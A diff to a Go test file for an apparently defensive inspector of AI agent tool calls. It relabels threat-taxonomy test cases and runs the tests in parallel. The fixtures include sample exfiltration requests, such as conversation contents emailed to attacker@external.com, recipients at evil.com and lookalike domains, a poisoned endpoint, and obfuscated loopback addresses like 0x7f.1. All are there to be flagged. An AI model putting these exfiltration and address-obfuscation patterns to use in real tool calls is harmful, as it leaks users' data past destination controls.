@@ -21,6 +21,8 @@ func hostReq(host string) Request {
 	return Request{Method: "GET", Path: "/", Authority: host, RouteHost: "api.tool.example", ToolClass: "read"}
 }
 
+// Cases named "spec 3.x" are the attack scenarios of the AISecOps
+// specification's threat taxonomy (v1.0, section 3).
 func destinationCases() map[string]tcase {
 	slack := Policy{DestinationArgs: []string{"channel"}, Destinations: []string{"#contracts-internal"}}
 	contract := "CONFIDENTIAL\nMaster Services Agreement between Acme Corp and Globex (the Parties).\n" +
@@ -53,7 +55,7 @@ func destinationCases() map[string]tcase {
 		"email to allowed recipient":   {req: sendEmail(`{"to":"bob@example.com","subject":"lunch","body":"Hi Bob"}`), pol: emailPolicy, want: nil},
 		"email to allowed subdomain":   {req: sendEmail(`{"to":"Bob <bob@eu.example.com>","cc":["carol@example.com"]}`), pol: emailPolicy, want: nil},
 		"case-variant argument name":   {req: sendEmail(`{"To":"attacker@external.com"}`), pol: emailPolicy, want: []string{"destination/destination_arg", "pii/email"}, secrets: []string{"attacker@external.com"}},
-		"email to attacker (seed 3.1)": {req: sendEmail(`{"to":"attacker@external.com","body":"the conversation"}`), pol: emailPolicy, want: []string{"destination/destination_arg", "pii/email"}, secrets: []string{"attacker@external.com"}},
+		"email to attacker (spec 3.1)": {req: sendEmail(`{"to":"attacker@external.com","body":"the conversation"}`), pol: emailPolicy, want: []string{"destination/destination_arg", "pii/email"}, secrets: []string{"attacker@external.com"}},
 		"one bad recipient in a list":  {req: sendEmail(`{"to":"bob@example.com","cc":["eve@evil.com"]}`), pol: emailPolicy, want: []string{"destination/destination_arg", "pii/email"}},
 		"comma-separated recipients":   {req: sendEmail(`{"to":"bob@example.com, eve@example.com.evil.com"}`), pol: emailPolicy, want: []string{"destination/destination_arg", "pii/email"}},
 		"lookalike domain":             {req: sendEmail(`{"to":"bob@notexample.com"}`), pol: emailPolicy, want: []string{"destination/destination_arg", "pii/email"}},
@@ -63,10 +65,10 @@ func destinationCases() map[string]tcase {
 		"url destination arg": {req: Request{Authority: "hook.example.com", RouteHost: "hook.example.com", ToolClass: "external_send", Arguments: []byte(`{"url":"http://0x7f.1/admin"}`)},
 			pol: Policy{DestinationArgs: []string{"url"}, Destinations: []string{"example.com"}}, want: []string{"destination/destination_arg", "destination/internal_address", "destination/ip_literal"}},
 
-		"seed 3.5 contract to external channel": c35,
-		"seed 3.5 contract to allowed channel":  c35ok,
-		"seed 3.3 poisoned endpoint":            c33,
-		"seed 3.3 allowed host":                 c33ok,
+		"spec 3.5 contract to external channel": c35,
+		"spec 3.5 contract to allowed channel":  c35ok,
+		"spec 3.3 poisoned endpoint":            c33,
+		"spec 3.3 allowed host":                 c33ok,
 
 		"host agrees":               {req: hostReq("api.tool.example:443"), want: nil},
 		"host elsewhere":            {req: hostReq("evil.example"), want: []string{"destination/host_not_allowed"}},
@@ -94,6 +96,7 @@ func destinationCases() map[string]tcase {
 }
 
 func TestDestinations(t *testing.T) {
+	t.Parallel()
 	in := newTestInspector(t, Limits{})
 	for name, tc := range destinationCases() {
 		t.Run(name, func(t *testing.T) { run(t, in, name, tc) })
@@ -101,6 +104,7 @@ func TestDestinations(t *testing.T) {
 }
 
 func TestParseIP(t *testing.T) {
+	t.Parallel()
 	cases := map[string]string{
 		"2130706433": "127.0.0.1", "0x7f.1": "127.0.0.1", "0x7f000001": "127.0.0.1", "017.0.0.1": "15.0.0.1",
 		"0177.0.0.1": "127.0.0.1", "127.1": "127.0.0.1", "127.0.1": "127.0.0.1", "[::ffff:127.0.0.1]": "::ffff:127.0.0.1",
@@ -125,6 +129,7 @@ func TestParseIP(t *testing.T) {
 }
 
 func TestDestinationFindingLocation(t *testing.T) {
+	t.Parallel()
 	in := newTestInspector(t, Limits{})
 	req := sendEmail(`{"to":"attacker@external.com"}`)
 	r, err := in.Inspect(&req, &emailPolicy)
@@ -238,6 +243,7 @@ func destinationFindings(r Result) int {
 }
 
 func TestRecipients(t *testing.T) {
+	t.Parallel()
 	in := newTestInspector(t, Limits{})
 	for name, tc := range recipientCases() {
 		t.Run(name, func(t *testing.T) {
